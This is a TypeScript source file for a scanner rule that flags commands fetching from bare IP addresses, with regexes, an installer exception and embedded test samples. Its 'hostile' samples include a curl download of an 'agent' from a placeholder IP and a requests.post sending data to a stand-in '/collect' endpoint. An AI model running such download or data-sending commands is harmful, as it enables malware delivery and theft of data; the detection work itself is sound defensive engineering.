import { isNumber } from "../words/addresses.ts";
import { addressesOf } from "../words/fetching.ts";
import { near, seen, several, where } from "../matchers.ts";
import type { Hit, Rule } from "../rule.ts";
import type { ScanText } from "../text.ts";

const numeric = where(
  several(
    "http https ftp",
    /\b(?:https?|ftp):\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^\s"'\x60<>)]{0,200}/,
    /\b(?:https?|ftp):\/\/(?:0x[0-9a-f]{8}|\d{8,10}|\[[0-9a-f:.]{2,60}\])[^\s"'\x60<>)]{0,200}/,
  ),
  (text, hit) => addressesOf(text, hit).some(isNumber) && !isHandedOver(text, hit),
);

/** Behind a command that fetches from a name, a value for another program: `curl https://get… | URL=https://192.0.2.1 sh`. */
function isHandedOver({ lower }: ScanText, { start }: Hit): boolean {
  const before = lower.slice(Math.max(0, start - 200), start);
  const name =
    /\b(?:curl|wget)\b[^\n|]{0,80}\shttps:\/\/[a-z][\w./-]{3,80}\s\|\s(?:[\w]{1,30}=\S{1,60}\s)?(\w{2,30})=["']?$/.exec(
      before,
    )?.[1];
  return name !== undefined && !lower.includes(`$${name}`) && !lower.includes(`\${${name}`);
}

export const numberAsHost: Rule = {
  id: "fetch.number",
  level: "high",
  title: "fetches from a bare number instead of a name",
  why: "A number on the internet has no owner that can be looked up at a glance, no certificate in its name, and is given to the next customer tomorrow. It is the usual address of malware. Ask for the name of the service.",
  match: near(
    numeric,
    seen(
      /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|requests\.\w{2,8}|urlopen|fetch\(|axios|download\w{0,8}|git clone|pip3? install|npm i(?:nstall)?|--index-url|--registry|scp|ftp)\b/,
    ),
    200,
  ),
  hostile: [
    "```bash\ncurl -o agent http://203.0.113.9/agent\n```\n",
    "Download the driver from http://198.51.100.23:8080/driver.zip before the first use.\n",
    "```python\nrequests.post('https://192.0.2.77/collect', json=data)\n```\n",
  ],
  benign: [
    "```bash\ncurl -sfL https://get.cluster.example | SERVER_URL=https://192.0.2.11:6443 sh -\n```\n",
    "```bash\ncurl http://127.0.0.1:8080/health\n```\n",
    "```bash\ncurl -sk https://192.168.1.40/api/v2.0/system/info\n```\n",
    "The resolver answers with 203.0.113.9 for that name.\n",
  ],
};
